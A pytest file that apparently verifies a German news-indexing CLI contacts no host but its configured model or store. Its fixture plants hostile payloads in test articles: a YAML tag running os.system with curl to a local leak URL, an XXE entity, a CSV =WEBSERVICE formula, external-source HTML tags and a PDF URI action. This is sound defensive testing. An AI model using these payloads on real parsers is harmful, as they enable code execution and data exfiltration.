"""No connection leaves the process except to the configured model, whatever the articles say."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from conftest import ROOT
from files import PROSE, write
from pdfs import make_pdf, show
from scripted_server import saying, sentence, serving
from test_hostile import leaking

QUESTION = "Wann fährt die neue Fähre über den See?"
ASKED = "Was hat der Stadtrat von Lindau beschlossen?"
# Notes every connection, name look-up, datagram and program, loopback and local sockets included.
WATCHED = """
import json, os, sys
out, seen = [], set()

def watch(event, args):
    if event in ("socket.connect", "socket.sendto", "socket.sendmsg"):
        seen.add((event, str(args[1])))
    elif event == "socket.getaddrinfo":
        seen.add((event, str(tuple(args[:2]))))
    elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork"):
        seen.add((event, str(args[:1])))

from click.testing import CliRunner
import ui.cli

sys.addaudithook(watch)
for arguments in json.loads(sys.argv[1]):
    seen.clear()
    made = CliRunner().invoke(ui.cli.main, arguments)
    out.append([made.exit_code, made.output, sorted(seen)])
print(json.dumps(out))
"""


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """Index articles full of addresses, ask without and with a model; return what was connected."""
    folder = tmp_path_factory.mktemp("watched")
    news, data = folder / "news", folder / "data"
    with (
        leaking() as leak,
        serving(saying(sentence(PROSE.split(". ")[0] + ".", (1, PROSE)))) as model,
    ):
        url = f"http://127.0.0.1:{leak.server_port}/leak"
        tags = "".join(
            f"<{tag} {name}='{url}'></{tag}>"
            for tag, name in [
                *(("img", "src"), ("iframe", "src"), ("script", "src"), ("link", "href")),
                *(("base", "href"), ("object", "data"), ("xi:include", "href")),
            ]
        )
        doctype = f'<!DOCTYPE html SYSTEM "{url}" [<!ENTITY x SYSTEM "{url}">]>'
        page = f"<head>{tags}<meta property='og:url' content='{url}'></head><article><p>&x; {PROSE}"
        write(news / "page.html", f"{doctype}<html>{page}</p><p>{PROSE}</p></article></html>")
        yaml = f'url: {url}\nx: !!python/object/apply:os.system ["curl {url}"]'
        write(news / "text.md", f"---\n{yaml}\n---\n{PROSE}\n\n![Bild]({url}) {url}\n")
        write(news / "rows.jsonl", json.dumps({"text": f"{PROSE} {url}", "url": url, "$ref": url}))
        write(news / "table.csv", f'text,url\n"=WEBSERVICE(""{url}"") {PROSE}",{url}\n')
        action = f"/OpenAction<</S/URI/URI({url})>>".encode()
        write(news / "a.pdf", make_pdf(show(PROSE), trailer=action))
        asked = ["ask", ASKED, "--json", "--data", str(data)]
        given = ["--model", "openai:scripted", "--base-url", model.url]
        commands = [["index", str(news), "--data", str(data)], asked, [*asked, *given]]
        return watch(folder, commands), leak.seen, model


def watch(folder, commands):
    """Run commands in a process; return exit code, output and connections of each."""
    unproxied = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
    made = subprocess.run(
        [sys.executable, "-c", WATCHED, json.dumps(commands)],
        cwd=folder,
        env={**unproxied, "PYTHONPATH": str(ROOT), "OPENAI_API_KEY": "none"},
        capture_output=True,
        text=True,
    )
    assert made.returncode == 0, made.stderr
    return json.loads(made.stdout.splitlines()[-1])


def test_indexing_and_quoting_connect_to_nothing(runs):
    (indexed, asked, _), leaked, _ = runs
    assert indexed[0] == asked[0] == 0, (indexed[1], asked[1])
    assert indexed[1].startswith("5 added; ")
    assert json.loads(asked[1])["found"]
    assert indexed[2] == asked[2] == []
    assert leaked == []


def test_with_a_model_its_server_alone_is_connected_to(runs):
    (_, _, asked), leaked, model = runs
    asked[2] = [tuple(seen) for seen in asked[2]]
    assert asked[0] == 0, asked[1]
    assert json.loads(asked[1])["model"] == "openai:scripted"
    [place] = {address for event, address in asked[2] if event == "socket.connect"}
    host, port = model.url.split("//")[1].split("/")[0].split(":")
    assert place == str((host, int(port)))
    others = {seen for seen in asked[2] if not seen[0].startswith("socket.")}
    # The client names the processor in a header, and Python's platform asks this program for it.
    assert others <= {("subprocess.Popen", "('uname',)")}
    looked_up = {address for event, address in asked[2] if event == "socket.getaddrinfo"}
    assert looked_up <= {str((host, int(port))), str((host, port))}
    assert len(model.requests) == 1
    assert leaked == []


def test_with_a_shared_store_its_server_alone_is_connected_to(tmp_path, chroma):
    write(tmp_path / "news" / "a.txt")
    store = ["--data", "copy", "--store", f"{chroma.url}/connections"]
    commands = [["index", "news", *store], ["ask", ASKED, "--json", *store], ["check", *store]]
    place = str(("127.0.0.1", chroma.port))
    for code, printed, seen in watch(tmp_path, commands):
        assert code == 0, printed
        assert {address for event, address in seen if event == "socket.connect"} == {place}
        assert {address for event, address in seen if event != "socket.connect"} == {place}
